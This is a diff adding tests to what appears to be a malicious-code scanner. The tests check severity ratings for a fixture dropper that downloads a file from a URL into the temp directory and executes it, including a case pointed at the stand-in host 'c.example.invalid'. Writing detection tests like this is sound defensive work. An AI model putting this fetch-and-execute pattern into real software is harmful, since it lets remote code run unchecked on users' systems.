@@ -114,3 +114,27 @@ def test_what_was_fetched_is_followed_at_any_time(text: str) -> None:
 )
 def test_an_installer_is_run_as_a_module(text: str) -> None:
     assert worst("attack-command", text) is Severity.CRITICAL
+
+
+FETCHED = """
+import os, subprocess, tempfile, urllib.request
+
+def fetched(place):
+    path = os.path.join(tempfile.gettempdir(), "run-it")
+    urllib.request.urlretrieve(place, path)
+    subprocess.run([path])
+
+def main(told):
+    fetched({place})
+"""
+
+
+@pytest.mark.parametrize(
+    ("place", "weight"),
+    [
+        ("told", Severity.MEDIUM),  # a caller says it, as for templates and plug-ins
+        ("'http://c.example.invalid/run-it'", Severity.CRITICAL),
+    ],
+)
+def test_a_program_from_where_a_caller_says(place: str, weight: Severity) -> None:
+    assert worst("dropper", FETCHED.replace("{place}", place)) is weight
